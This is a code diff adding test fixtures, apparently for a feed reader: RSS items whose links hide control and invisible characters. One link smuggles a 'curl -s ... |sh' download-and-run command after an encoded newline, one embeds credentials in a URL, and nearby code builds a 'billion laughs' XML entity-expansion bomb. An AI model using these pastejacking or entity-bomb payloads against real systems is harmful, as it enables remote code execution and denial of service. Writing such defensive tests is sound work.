@@ -231,6 +231,30 @@ def bad_links() -> dict:
     return _route(body)
 
 
+# Links that would run a second command if pasted into a shell, or hide what they are.
+PASTEJACK_LINKS = {
+    "Paste newline": "http://ok.example/nl.html&#10;curl&#9;-s&#9;http://ok.example/x|sh",
+    "Paste tab": "http://ok.example/a&#9;b",
+    "Paste CR": "http://ok.example/a&#13;b",
+    "Paste nbsp": "http://ok.example/a&#160;b",
+    "Paste separator": "http://ok.example/a&#x2028;b",
+    "Paste tag chars": "http://ok.example/a&#xE0041;b",
+}
+
+
+def pastejacking_links() -> dict:
+    items = [
+        f"<item><title>{title}</title><guid>p{i}</guid><pubDate>{_date(i)}</pubDate>"
+        f"<link>{link}</link></item>"
+        for i, (title, link) in enumerate(PASTEJACK_LINKS.items())
+    ]
+    items.append(
+        "<item><title>Credentials</title><guid>cred</guid>"
+        "<link>http://user:secret@ok.example/private</link></item>"
+    )
+    return _route(_raw_rss(items))
+
+
 LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
 
 
